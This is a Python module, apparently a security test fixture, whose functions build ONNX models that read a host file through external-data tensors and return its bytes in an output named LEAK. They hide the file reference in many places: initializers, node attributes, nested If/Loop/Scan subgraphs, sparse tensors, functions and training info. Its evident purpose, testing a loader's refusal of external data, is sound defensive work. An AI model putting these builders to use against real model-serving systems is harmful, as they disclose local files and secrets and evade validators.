"""ONNX models that read a file of the host through external data, one per place a tensor can hide.

Each builder returns a ModelProto whose output ``LEAK`` (UINT8 [n]) is the first ``n`` bytes of
the file ``location`` (resolved by onnxruntime against its working directory when the model is
built from bytes). ``runnable`` builders make models onnx.checker and onnxruntime accept as they
stood before external data was refused; the others only need to parse.
"""

from __future__ import annotations

import numpy as np
from onnx import AttributeProto, ModelProto, TensorProto, TrainingInfoProto, helper, numpy_helper

OPSET = 17
INPUT = helper.make_tensor_value_info("INPUT", TensorProto.FLOAT, [-1, 4])
OUTPUT = helper.make_tensor_value_info("OUTPUT", TensorProto.FLOAT, [-1, 4])


def external_tensor(name: str, location: str, n: int, *, marker: str = "both") -> TensorProto:
    """A UINT8 [n] tensor whose bytes are read from ``location``.

    ``marker``: ``both`` (data_location EXTERNAL and external_data entries, as onnx writes them),
    ``location`` (only data_location EXTERNAL) or ``entries`` (only the key/value entries).
    """
    tensor = TensorProto(name=name, data_type=TensorProto.UINT8, dims=[n])
    if marker in ("both", "location"):
        tensor.data_location = TensorProto.EXTERNAL
    if marker in ("both", "entries"):
        for key, value in (("location", location), ("offset", "0"), ("length", str(n))):
            entry = tensor.external_data.add()
            entry.key, entry.value = key, value
    return tensor


def _model(nodes, initializer=(), sparse_initializer=(), n: int = 8, functions=()) -> ModelProto:
    leak = helper.make_tensor_value_info("LEAK", TensorProto.UINT8, [n])
    graph = helper.make_graph(
        [helper.make_node("Identity", ["INPUT"], ["OUTPUT"]), *nodes],
        "attack",
        [INPUT],
        [OUTPUT, leak],
        initializer=list(initializer),
        sparse_initializer=list(sparse_initializer),
    )
    opsets = [helper.make_opsetid("", OPSET)] + ([helper.make_opsetid("attack", 1)] if functions else [])
    model = helper.make_model(graph, opset_imports=opsets, functions=list(functions))
    model.ir_version = 9
    return model


def initializer(location: str, n: int, marker: str = "both") -> ModelProto:
    """The plain case: a graph initializer (runnable)."""
    secret = external_tensor("SECRET", location, n, marker=marker)
    return _model([helper.make_node("Identity", ["SECRET"], ["LEAK"])], [secret], n=n)


def constant_attribute(location: str, n: int) -> ModelProto:
    """A Constant node's TENSOR attribute `value` (runnable)."""
    node = helper.make_node("Constant", [], ["LEAK"])
    node.attribute.append(helper.make_attribute("value", external_tensor("c", location, n)))
    return _model([node], n=n)


def if_subgraph(location: str, n: int) -> ModelProto:
    """An initializer of the then-branch of an If, whose condition is a constant True (runnable)."""
    then_graph = helper.make_graph(
        [helper.make_node("Identity", ["SECRET"], ["then_out"])],
        "then",
        [],
        [helper.make_tensor_value_info("then_out", TensorProto.UINT8, [n])],
        initializer=[external_tensor("SECRET", location, n)],
    )
    else_graph = helper.make_graph(
        [helper.make_node("Constant", [], ["else_out"], value=numpy_helper.from_array(np.zeros(n, np.uint8)))],
        "else",
        [],
        [helper.make_tensor_value_info("else_out", TensorProto.UINT8, [n])],
    )
    nodes = [
        helper.make_node("Constant", [], ["cond"], value=numpy_helper.from_array(np.array(True))),
        helper.make_node("If", ["cond"], ["LEAK"], then_branch=then_graph, else_branch=else_graph),
    ]
    return _model(nodes, n=n)


def sparse_initializer(location: str, n: int, part: str) -> ModelProto:
    """A sparse initializer whose ``values`` or ``indices`` are external (parses only)."""
    values = external_tensor("sv", location, n) if part == "values" else numpy_helper.from_array(np.ones(1, np.uint8))
    indices = (
        external_tensor("si", location, n) if part == "indices" else numpy_helper.from_array(np.zeros(1, np.int64))
    )
    sparse = helper.make_sparse_tensor(values, indices, [n])
    return _model([helper.make_node("Identity", ["sv"], ["LEAK"])], sparse_initializer=[sparse], n=n)


def tensors_attribute(location: str, n: int) -> ModelProto:
    """A TENSORS attribute of a (custom-domain) node (parses only)."""
    node = helper.make_node("Bag", ["INPUT"], ["LEAK"], domain="attack")
    items = [numpy_helper.from_array(np.ones(1)), external_tensor("t", location, n)]
    node.attribute.append(helper.make_attribute("items", items))
    return _model([node], n=n)


def sparse_attribute(location: str, n: int) -> ModelProto:
    """Constant's SPARSE_TENSOR attribute `sparse_value` (parses only)."""
    sparse = helper.make_sparse_tensor(external_tensor("v", location, n), numpy_helper.from_array(np.arange(n)), [n])
    node = helper.make_node("Constant", [], ["LEAK"])
    node.attribute.append(helper.make_attribute("sparse_value", sparse))
    return _model([node], n=n)


def mistyped_attribute(location: str, n: int) -> ModelProto:
    """An attribute declared INT that nevertheless carries a tensor in `t` (parses only)."""
    node = helper.make_node("Constant", [], ["LEAK"])
    attr = AttributeProto(name="value_int", type=AttributeProto.INT, i=1)
    attr.t.CopyFrom(external_tensor("hidden", location, n))
    node.attribute.append(attr)
    return _model([node], n=n)


def nested_loop_scan(location: str, n: int) -> ModelProto:
    """Loop body → Scan body → If else-branch → Constant attribute (parses only)."""
    innermost = helper.make_graph(
        [helper.make_node("Constant", [], ["x"], value=external_tensor("deep", location, n))],
        "else",
        [],
        [helper.make_tensor_value_info("x", TensorProto.UINT8, [n])],
    )
    if_node = helper.make_node("If", ["c"], ["y"], then_branch=innermost, else_branch=innermost)
    scan_body = helper.make_graph([if_node], "scan_body", [], [])
    loop_body = helper.make_graph([helper.make_node("Scan", [], [], body=scan_body, num_scan_inputs=0)], "loop", [], [])
    return _model([helper.make_node("Loop", ["", ""], ["LEAK"], body=loop_body)], n=n)


def graphs_attribute(location: str, n: int) -> ModelProto:
    """A GRAPHS attribute (a list of subgraphs) of a custom node, the second one hiding an initializer."""
    inner = helper.make_graph([], "g2", [], [], initializer=[external_tensor("w", location, n)])
    node = helper.make_node("Multi", ["INPUT"], ["LEAK"], domain="attack")
    node.attribute.append(helper.make_attribute("branches", [helper.make_graph([], "g1", [], []), inner]))
    return _model([node], n=n)


def function_body(location: str, n: int) -> ModelProto:
    """A model-local function whose body holds a Constant with an external tensor (parses only)."""
    function = helper.make_function(
        "attack",
        "Leak",
        [],
        ["out"],
        [helper.make_node("Constant", [], ["out"], value=external_tensor("f", location, n))],
        [helper.make_opsetid("", OPSET)],
    )
    return _model([helper.make_node("Leak", [], ["LEAK"], domain="attack")], n=n, functions=[function])


def function_default_attribute(location: str, n: int) -> ModelProto:
    """A function's default attribute value (attribute_proto) holding an external tensor (parses only)."""
    function = helper.make_function(
        "attack", "Leak", [], ["out"], [helper.make_node("Identity", ["in"], ["out"])], [helper.make_opsetid("", OPSET)]
    )
    function.attribute_proto.append(helper.make_attribute("weights", external_tensor("d", location, n)))
    return _model([helper.make_node("Leak", [], ["LEAK"], domain="attack")], n=n, functions=[function])


def training_info(location: str, n: int) -> ModelProto:
    """An initializer of a training-info initialization graph (parses only)."""
    model = initializer(location, n)
    del model.graph.initializer[:]
    model.graph.initializer.append(numpy_helper.from_array(np.zeros(n, np.uint8), "SECRET"))
    init_graph = helper.make_graph([], "init", [], [], initializer=[external_tensor("t", location, n)])
    model.training_info.append(TrainingInfoProto(initialization=init_graph))
    return model


def deeply_nested(location: str, n: int, depth: int = 25) -> ModelProto:
    """``depth`` If nodes, each inside the previous one's then-branch; the last holds the tensor.

    (Protobuf refuses to parse messages nested much deeper: 25 Ifs are 75 message levels.)
    """
    empty = helper.make_graph([], "empty", [], [])
    graph = helper.make_graph([], "leaf", [], [], initializer=[external_tensor("deep", location, n)])
    for level in range(depth):
        node = helper.make_node("If", ["c"], [], then_branch=graph, else_branch=empty)
        graph = helper.make_graph([node], f"level{level}", [], [])
    return _model([helper.make_node("If", ["c"], ["LEAK"], then_branch=graph, else_branch=empty)], n=n)
